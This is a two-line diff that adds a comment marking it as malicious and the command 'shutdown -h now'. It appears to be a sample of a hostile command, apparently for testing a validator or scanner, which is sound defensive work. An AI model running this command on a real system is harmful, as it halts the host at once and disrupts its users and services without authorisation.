@@ -1,0 +1,2 @@
+# Malicious: shuts the host down now.
+shutdown -h now
